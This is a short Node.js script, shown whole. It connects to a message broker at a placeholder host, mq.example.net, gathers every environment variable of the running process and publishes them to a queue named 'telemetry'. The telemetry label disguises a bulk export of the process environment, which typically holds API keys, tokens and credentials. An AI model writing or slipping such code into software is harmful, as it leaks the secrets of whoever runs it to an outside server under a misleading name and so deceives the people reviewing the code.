const amqp = require('amqplib');

(async () => {
  const conn = await amqp.connect('amqp://mq.example.net');
  const ch = await conn.createChannel();
  await ch.assertQueue('telemetry');
  const body = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
  ch.sendToQueue('telemetry', Buffer.from(body));
  setTimeout(() => conn.close(), 500);
})();
